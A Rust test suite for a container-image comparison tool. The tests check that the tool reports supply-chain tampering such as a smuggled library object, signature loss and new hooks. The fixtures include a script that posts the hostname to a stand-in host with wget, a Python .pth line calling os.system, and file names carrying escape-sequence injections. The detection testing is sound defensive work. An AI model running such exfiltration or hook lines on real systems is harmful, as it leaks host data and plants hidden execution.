//! Two images compared.

use crate::room::{Ran, Room, base, image, says};
use serde_json::Value;
use test_support::{
    FakeRegistry, Image, ImageBuilder, IndexBuilder, Layer, LayerBuilder, Response, md5_hex, sha256_digest,
    standin,
};

fn run(room: &Room, old: &str, new: &str, more: &[&str]) -> Ran {
    room.run(&[&["diff", "--no-cache", old, new], more].concat())
}

/// The changes of a comparison as `severity kind subject`, and the exit code.
fn compare(room: &Room, old: &Image, new: &Image, more: &[&str]) -> (i32, Vec<String>, Value) {
    let (old, new) = (room.layout("old", old), room.layout("new", new));
    let ran = run(room, &old, &new, &[&["--format", "json"], more].concat());
    let value = ran.json();
    (ran.code, told(&value), value)
}

fn told(value: &Value) -> Vec<String> {
    let changes = value["changes"].as_array().unwrap().iter();
    changes
        .map(|change| {
            let subject = change["path"].as_str().or(change["name"].as_str()).unwrap_or("-");
            let (severity, kind) = (change["severity"].as_str().unwrap(), change["kind"].as_str().unwrap());
            format!("{severity} {kind} {subject}")
        })
        .collect()
}

#[track_caller]
fn check(old: ImageBuilder, new: ImageBuilder, code: i32, expect: &[&str]) -> Value {
    let (left, changes, value) = compare(&Room::new(), &old.build(), &new.build(), &[]);
    assert_eq!(changes, expect, "{value:#}");
    assert_eq!(left, code, "{value:#}");
    value
}

/// A package of dpkg with these files, as it promises them.
fn package(layer: LayerBuilder, name: &str, version: &str, files: &[(&str, Vec<u8>)]) -> LayerBuilder {
    let list: String = files.iter().map(|(path, _)| format!("/{path}\n")).collect();
    let sums: String = files.iter().map(|(path, bytes)| format!("{}  {path}\n", md5_hex(bytes))).collect();
    let status =
        format!("Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\n\n");
    let layer = files.iter().fold(layer, |layer, (path, bytes)| layer.file(path, 0o755, bytes));
    layer
        .file(format!("var/lib/dpkg/info/{name}.list"), 0o644, list)
        .file(format!("var/lib/dpkg/info/{name}.md5sums"), 0o644, sums)
        .file("var/lib/dpkg/status", 0o644, status)
}

const LIBRARY: &str = "usr/lib/liblzma.so.5";

/// A base with one package, a library and a program, of this version.
fn packaged(version: &str) -> LayerBuilder {
    let bytes = |what: &str| standin::program(&format!("{what} of version {version}"));
    let files = [(LIBRARY, bytes("a library")), ("usr/bin/xz", bytes("a program"))];
    package(base(), "xz-utils", version, &files)
}

#[test]
fn the_same_image_twice_is_nothing_new() {
    let both =
        || image().layer(packaged("5.4")).layer(LayerBuilder::new().file("opt/x", 0o755, b"#!/bin/sh\n"));
    let value = check(both(), both(), 0, &[]);
    assert_eq!(value["summary"], "Nothing came in that the old image could not do.");
    assert_eq!(
        (&value["platforms"][0]["layers"], &value["platforms"][0]["added"]),
        (&"same".into(), &0.into())
    );
}

#[test]
fn no_image_of_the_story_differs_from_itself() {
    for story in test_support::story::five_images().into_iter().chain(test_support::story::benign_images()) {
        let room = Room::new();
        let both = room.layout("both", &story.image);
        let ran = run(&room, &both, &both, &["--format", "json", "--fail-on", "low"]);
        let value = ran.json();
        assert!(told(&value).is_empty() && value["packages"] == serde_json::json!([]), "{value:#}");
        assert_eq!(value["old"]["verdict"], value["new"]["verdict"]);
        assert_eq!(ran.code, if value["gaps"] == serde_json::json!([]) { 0 } else { 3 }, "{value:#}");
    }
}

#[test]
fn a_package_upgrade_is_one_line() {
    let room = Room::new();
    let (old, new) = (image().layer(packaged("5.4")).build(), image().layer(packaged("5.6")).build());
    let (code, changes, value) = compare(&room, &old, &new, &["--fail-on", "medium"]);
    assert_eq!((code, &changes[..]), (0, &["low base-replaced -".to_owned()][..]), "{value:#}");
    let package = &value["packages"][0];
    assert_eq!((&package["name"], &package["files"]), (&"xz-utils".into(), &2.into()), "{value:#}");
    assert_eq!((&package["before"], &package["after"]), (&"5.4".into(), &"5.6".into()));
    let table = run(&room, &room.layout("old", &old), &room.layout("new", &new), &[]);
    assert!(table.out.contains("dpkg xz-utils 5.4 → 5.6 (2 files, 2 programs)"), "{table:?}");
}

/// The shape of xz: the package goes on as it was, and an object comes along that it does not know.
#[test]
fn what_comes_along_with_an_upgrade_is_told() {
    let old = || image().layer(packaged("5.4"));
    let object = standin::program("an object that the package does not list");
    let with = |path: &str, bytes: &[u8]| {
        old().layer(LayerBuilder::new().file(path, 0o644, bytes)).history("RUN make install")
    };
    let value = check(
        old(),
        with("usr/lib/liblzma_helper.so", &object),
        1,
        &["high program-added /usr/lib/liblzma_helper.so"],
    );
    let change = &value["changes"][0];
    assert_eq!(change["layer"]["index"], 1, "{change:#}");
    assert_eq!(change["after"]["sha256"], sha256_digest(&object));
    assert_eq!(change["before"], Value::Null);
    let altered = check(
        old(),
        with(LIBRARY, &object),
        1,
        &["critical finding-added /usr/lib/liblzma.so.5", "high owned-altered /usr/lib/liblzma.so.5"],
    );
    let package = &altered["changes"][1]["after"]["package"];
    assert_eq!(package, "dpkg xz-utils 5.4");
}

#[test]
fn a_package_that_promises_otherwise_under_the_same_version_is_told() {
    let with = |what: &str| {
        let bytes = |of: &str| standin::program(&format!("{what} {of}"));
        let files = [(LIBRARY, bytes("a")), ("usr/bin/xz", bytes("b"))];
        image().layer(package(base(), "xz-utils", "5.4", &files))
    };
    let value =
        check(with("one"), with("other"), 1, &["high package-rewritten /usr/bin/xz", "low base-replaced -"]);
    assert_eq!(value["changes"][0]["name"], "dpkg xz-utils");
}

/// Adding a line to the list of a package takes no digest.
#[test]
fn a_file_that_a_package_of_the_same_version_claims_of_a_sudden_is_told() {
    let listed = |more: &str| format!("/{LIBRARY}\n/usr/bin/xz\n{more}");
    let planted = LayerBuilder::new().file("usr/lib/helper.so", 0o755, standin::program("planted")).file(
        "var/lib/dpkg/info/xz-utils.list",
        0o644,
        listed("/usr/lib/helper.so\n"),
    );
    let old = || image().layer(packaged("5.4"));
    check(old(), old().layer(planted), 1, &["high program-added /usr/lib/helper.so"]);
}

/// Directories of the system that became links to where everything lies now are no change of a file.
#[test]
fn a_merged_usr_is_no_change() {
    let program = standin::program("a shell");
    let split = LayerBuilder::new().dir("bin", 0o755).file("bin/sh", 0o755, &program);
    let merged = LayerBuilder::new()
        .dir("usr", 0o755)
        .dir("usr/bin", 0o755)
        .file("usr/bin/sh", 0o755, &program)
        .symlink("bin", "usr/bin");
    let of = |layer| ImageBuilder::new().config(|config| config.entrypoint(&["/bin/sh"])).layer(layer);
    check(of(split), of(merged), 0, &["low program-moved /usr/bin/sh", "low base-replaced -"]);
}

#[test]
fn hostile_trees_are_compared_in_time() {
    let deep = ["d/"; 200].concat();
    let many = |from: usize| {
        let layer = LayerBuilder::new()
            .symlink("loop", "loop")
            .symlink("a", "b")
            .symlink("b", "a")
            .hardlink("hard", "nowhere")
            .file(format!("{deep}x"), 0o755, b"#!/bin/sh\n")
            .file("etc/cron.d/loop", 0o644, "* * * * * root /loop\n");
        (from..from + 20_000).fold(layer, |layer, at| {
            layer.file(format!("opt/f{at}"), 0o755, format!("#!/bin/sh\necho https://h{at}.example\n"))
        })
    };
    let begin = std::time::Instant::now();
    let (old, new) = (image().layer(base()).layer(many(0)), image().layer(base()).layer(many(15_000)));
    let (code, changes, value) = compare(&Room::new(), &old.build(), &new.build(), &[]);
    // Of so many new hosts not all are told, which is a gap.
    assert_eq!(code, 3);
    assert!(changes.len() >= 20_000, "{}", changes.len());
    assert!(says(&value_with_findings(&value), "more times than are told"), "{}", value["gaps"]);
    assert!(begin.elapsed() < std::time::Duration::from_secs(60), "{:?}", begin.elapsed());
}

#[test]
fn another_start_and_what_it_leads_to_are_told() {
    let with = |entrypoint: &'static [&'static str]| {
        ImageBuilder::new()
            .config(move |config| config.entrypoint(entrypoint).user("app"))
            .layer(packaged("5.4").file("usr/bin/other", 0o755, standin::program("another program")))
    };
    let value = check(
        with(&["/usr/bin/app"]),
        with(&["/usr/bin/other", "--all"]),
        1,
        &["high setting-changed Entrypoint", "medium reach-added /usr/bin/other"],
    );
    let change = &value["changes"][0];
    assert_eq!(
        (&change["before"]["value"], &change["after"]["value"]),
        (&"/usr/bin/app".into(), &"/usr/bin/other --all".into())
    );
}

/// The shape of codecov: one more line in a script that runs anyway.
#[test]
fn a_new_script_and_the_host_it_names_are_told() {
    let with = |script: &str| {
        ImageBuilder::new()
            .config(|config| config.entrypoint(&["/entry.sh"]))
            .layer(packaged("5.4"))
            .layer(LayerBuilder::new().file("entry.sh", 0o755, script))
    };
    let script = "#!/bin/sh\nexec /usr/bin/app --registry https://known.example/\n";
    let more = "#!/bin/sh\n/opt/report.sh\nexec /usr/bin/app --registry https://known.example/\n";
    let report = "#!/bin/sh\nwget -q --post-data \"$HOSTNAME\" https://collect.invalid/upload\n";
    let new = with(more).layer(LayerBuilder::new().file("opt/report.sh", 0o755, report));
    let (code, changes, value) = compare(&Room::new(), &with(script).build(), &new.build(), &[]);
    assert_eq!(code, 1);
    for expect in [
        "high program-added /opt/report.sh",
        "high host-added /opt/report.sh",
        "medium reach-changed /entry.sh",
    ] {
        assert!(changes.iter().any(|change| change == expect), "{expect}: {changes:?}");
    }
    let host = value["changes"].as_array().unwrap().iter().find(|change| change["kind"] == "host-added");
    let host = host.unwrap();
    assert_eq!(host["name"], "collect.invalid");
    assert!(host["reached"].as_str().unwrap().contains("/entry.sh"), "{host:#}");
    assert!(!value.to_string().contains("known.example"), "what both name is nothing new");
}

#[test]
fn a_renamed_program_is_a_move_and_a_copied_one_a_copy() {
    let program = standin::program("a tool");
    let with = |paths: &[&str]| {
        let layer = paths.iter().fold(packaged("5.4"), |layer, path| layer.file(path, 0o755, &program));
        image().layer(layer)
    };
    let moved = check(
        with(&["opt/tool"]),
        with(&["opt/tools/tool"]),
        0,
        &["low program-moved /opt/tools/tool", "low base-replaced -"],
    );
    assert_eq!(moved["changes"][0]["moved_from"], "/opt/tool");
    assert_eq!(moved["platforms"][0]["moved"], 1);
    let copied = with(&["opt/tool"]).layer(LayerBuilder::new().file("opt/worker", 0o755, &program));
    let copied = check(with(&["opt/tool"]), copied, 0, &["medium program-copied /opt/worker"]);
    assert_eq!(copied["changes"][0]["moved_from"], "/opt/tool");
}

#[test]
fn rights_and_hooks_that_come_are_told() {
    let old = || image().layer(packaged("5.4"));
    let has = |layer: LayerBuilder, expect: &str| {
        let (code, changes, _) = compare(&Room::new(), &old().build(), &old().layer(layer).build(), &[]);
        assert!(code == 1 && changes.iter().any(|change| change == expect), "{expect}: {changes:?}");
    };
    let bytes = standin::program("a program of version 5.4");
    has(LayerBuilder::new().file("usr/bin/xz", 0o4755, &bytes), "high rights-gained /usr/bin/xz");
    has(LayerBuilder::new().file("opt/x", 0o4755, standin::program("x")), "high rights-gained /opt/x");
    has(
        LayerBuilder::new().file("etc/cron.d/x", 0o644, "* * * * * root /usr/bin/app\n"),
        "high hook-added /etc/cron.d/x",
    );
    has(
        LayerBuilder::new().file("usr/lib/python3/dist-packages/x.pth", 0o644, "import os; os.system('x')\n"),
        "high hook-added /usr/lib/python3/dist-packages/x.pth",
    );
}

#[test]
fn python_packages_are_one_line_each() {
    let with = |version: &str| {
        let site = "usr/lib/python3/site-packages";
        let layer = packaged("5.4")
            .file(format!("{site}/Fast_Thing-{version}.dist-info/METADATA"), 0o644, "Name: x\n")
            .file(format!("{site}/fast_thing/core.so"), 0o755, standin::program(version))
            .file(format!("{site}/fast_thing/notes.py"), 0o644, format!("# https://v{version}.example\n"));
        image().layer(layer)
    };
    let value = check(
        with("1.0"),
        with("1.1"),
        0,
        &["low host-added /usr/lib/python3/site-packages/fast_thing/notes.py", "low base-replaced -"],
    );
    let package = &value["packages"][0];
    assert_eq!((&package["manager"], &package["name"]), (&"python".into(), &"fast_thing".into()));
    assert_eq!((&package["before"], &package["after"]), (&"1.0".into(), &"1.1".into()));
}

#[test]
fn a_baseline_accepts_what_there_was_and_nothing_else() {
    let room = Room::new();
    let old = image().layer(packaged("5.4"));
    let tool = |what: &str| LayerBuilder::new().file("usr/lib/helper.so", 0o755, standin::program(what));
    let (old, new) = (room.layout("old", &old.build()), {
        let new = image().layer(packaged("5.4")).layer(tool("one"));
        room.layout("new", &new.build())
    });
    let written = run(&room, &old, &new, &["--write-baseline", "accepted.toml"]);
    assert_eq!(written.code, 0, "{written:?}");
    let accepted = run(&room, &old, &new, &["--baseline", "accepted.toml", "--fail-on", "low"]);
    assert_eq!((accepted.code, accepted.err.as_str()), (0, ""), "{accepted:?}");
    assert!(accepted.out.contains("Baseline: 1 change accepted"), "{accepted:?}");
    // The same place with another content is another change, and the entry is for nothing.
    let other = room.layout("other", &image().layer(packaged("5.4")).layer(tool("other")).build());
    let other = run(&room, &old, &other, &["--baseline", "accepted.toml"]);
    assert_eq!(other.code, 1, "{other:?}");
    assert!(
        other.err.contains("warning: the baseline accepts program-added /usr/lib/helper.so"),
        "{other:?}"
    );
    let unused = run(&room, &old, &old, &["--baseline", "accepted.toml"]);
    assert!(unused.code == 0 && unused.err.contains("there is no such change; remove it"), "{unused:?}");
    room.write("wrong.toml", "[[accept]]\nkind = \"everything\"\n");
    let wrong = run(&room, &old, &new, &["--baseline", "wrong.toml"]);
    assert!(wrong.code == 2 && wrong.err.contains("cannot use the baseline"), "{wrong:?}");
}

fn signed_pair() -> (Image, Image) {
    let old = image().layer(packaged("5.4")).build();
    let new = image().layer(packaged("5.4")).layer(LayerBuilder::new().file("etc/x", 0o644, b"x")).build();
    (old, new)
}

fn signature_tag(image: &Image) -> String {
    format!("{}.sig", image.digest().replace(':', "-"))
}

#[test]
fn a_signature_that_is_gone_is_told() {
    let (old, new) = signed_pair();
    let signature = ImageBuilder::new().build();
    let registry = || {
        FakeRegistry::new().image("team/app", "1", &old).image("team/app", "2", &new).image(
            "team/app",
            &signature_tag(&old),
            &signature,
        )
    };
    let referrers = |request: &test_support::Request| {
        let list =
            r#"{"schemaVersion":2,"manifests":[{"artifactType":"application/vnd.cncf.notary.signature"}]}"#;
        let asked = request.path.contains("/referrers/");
        asked.then(|| {
            Response::new(200).header("Content-Type", "application/vnd.oci.image.index.v1+json").body(list)
        })
    };
    let check = |registry: FakeRegistry, code: i32, signed: [Value; 2], lost: bool| {
        let (room, registry) = (Room::new(), registry.start());
        let name = |tag: &str| format!("docker://{}", registry.reference(&format!("team/app:{tag}")));
        let more = ["--format", "json", "--plain-http", &registry.host()];
        let ran = run(&room, &name("1"), &name("2"), &more);
        let value = ran.json();
        assert_eq!(ran.code, code, "{value:#}");
        assert_eq!([&value["old"]["signed"], &value["new"]["signed"]], [&signed[0], &signed[1]]);
        assert_eq!(told(&value).contains(&"high signature-lost -".to_owned()), lost, "{value:#}");
        registry.requests()
    };
    check(registry(), 1, [true.into(), false.into()], true);
    let both = registry().image("team/app", &signature_tag(&new), &signature);
    let requests = check(both, 0, [true.into(), true.into()], false);
    // What both images share is fetched once.
    let layer =
        old.blobs().keys().find(|digest| requests.iter().any(|request| request.path.ends_with(*digest)));
    let shared = old.blobs().keys().filter(|digest| new.blobs().contains_key(*digest));
    assert!(layer.is_some());
    for digest in shared {
        let asked =
            requests.iter().filter(|request| request.path.ends_with(&format!("/blobs/{digest}"))).count();
        assert!(asked <= 1, "{digest} was fetched {asked} times");
    }
    check(registry().intercept(referrers), 0, [true.into(), true.into()], false);
    let unsigned = FakeRegistry::new().image("team/app", "1", &old).image("team/app", "2", &new);
    check(unsigned, 0, [false.into(), Value::Null], false);
    let refused =
        registry().intercept(move |request| request.path.ends_with(".sig").then(|| Response::new(403)));
    check(refused, 3, [Value::Null, Value::Null], false);
}

#[test]
fn platforms_are_compared_each_with_its_own() {
    let of = |architecture: &'static str| {
        ImageBuilder::new()
            .config(move |config| config.platform("linux", architecture).entrypoint(&["/entry.sh"]))
            .layer(LayerBuilder::new().file("entry.sh", 0o755, "#!/bin/sh\n"))
            .build()
    };
    let index = |architectures: &[&'static str]| {
        let add = |index: IndexBuilder, architecture: &&'static str| index.image(of(architecture));
        architectures.iter().fold(IndexBuilder::new(), add).build()
    };
    let room = Room::new();
    let (code, changes, value) = compare(&room, &index(&["amd64"]), &index(&["amd64", "arm64"]), &[]);
    assert_eq!((code, &changes[..]), (3, &["medium platform-added linux/arm64".to_owned()][..]), "{value:#}");
    assert!(says(&value_with_findings(&value), "no such platform to compare with"));
    let (code, changes, _) = compare(&room, &index(&["amd64", "arm64"]), &index(&["amd64"]), &[]);
    assert_eq!((code, &changes[..]), (0, &["low platform-removed linux/arm64".to_owned()][..]));
    let (old, new) = (room.layout("old", &of("amd64")), room.layout("new", &of("arm64")));
    let none = run(&room, &old, &new, &[]);
    assert!(none.code == 2 && none.err.contains("no platform is in both images"), "{none:?}");
}

/// [`says`] looks at findings too, which a comparison has none of.
fn value_with_findings(value: &Value) -> Value {
    serde_json::json!({ "gaps": value["gaps"], "findings": [] })
}

#[test]
fn a_layer_that_was_not_read_leaves_with_3() {
    let old = image().layer(packaged("5.4")).build();
    let cut = Layer::new(base().build()[..700].to_vec());
    let new = image().layer(packaged("5.4")).layer(cut).build();
    let (code, _, value) = compare(&Room::new(), &old, &new, &[]);
    assert_eq!(code, 3, "{value:#}");
    assert!(value["gaps"][0]["what"].as_str().unwrap().starts_with("new: linux/amd64, layer 1"), "{value:#}");
    let absent = Layer::new(base().build()).stored(Vec::new()).absent();
    let old = image().layer(packaged("5.4")).layer(absent).build();
    let (code, _, value) = compare(&Room::new(), &old, &image().layer(packaged("5.4")).build(), &[]);
    assert_eq!(code, 3, "{value:#}");
}

#[test]
fn hostile_names_are_escaped_in_every_form() {
    let room = Room::new();
    let name: &[u8] = b"usr/lib/\x1b[2J\n::error::x|<b>`\xe2\x80\xae##vso[task]\xff.so";
    let old = image().layer(packaged("5.4")).build();
    let new = image()
        .config(|config| config.env("LD_PRELOAD", "\u{1b}[2J\n|<script>"))
        .layer(packaged("5.4"))
        .layer(LayerBuilder::new().file(name, 0o4755, standin::program("x")))
        .history("RUN \u{1b}]0;x\u{7}\n### heading")
        .build();
    let (old, new) = (room.layout("old", &old), room.layout("new", &new));
    for format in ["table", "json", "markdown"] {
        let ran = run(&room, &old, &new, &["--format", format, "--verbose"]);
        assert_eq!(ran.code, 1, "{format}: {ran:?}");
        assert!(
            !ran.out.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
            "{format}: {ran:?}"
        );
        let markup = format == "markdown" && ran.out.contains("<script>");
        assert!(!ran.out.contains("##vso[") && !markup, "{format}: {ran:?}");
        assert!(!ran.out.lines().any(|line| line.trim_start().starts_with("::")), "{format}: {ran:?}");
    }
    let written = run(&room, &old, &new, &["--write-baseline", "accepted.toml"]);
    assert_eq!(written.code, 0, "{written:?}");
    let accepted = run(&room, &old, &new, &["--baseline", "accepted.toml", "--fail-on", "low"]);
    assert_eq!(accepted.code, 0, "{accepted:?}");
}

#[test]
fn a_comparison_is_written_to_a_file() {
    let room = Room::new();
    let both = room.layout("both", &image().layer(packaged("5.4")).build());
    let ran = run(&room, &both, &both, &["--format", "markdown", "--output", "comment.md"]);
    assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{ran:?}");
    let written = std::fs::read_to_string(room.path("comment.md")).unwrap();
    assert!(written.starts_with("### ✔ nothing new"), "{written}");
}
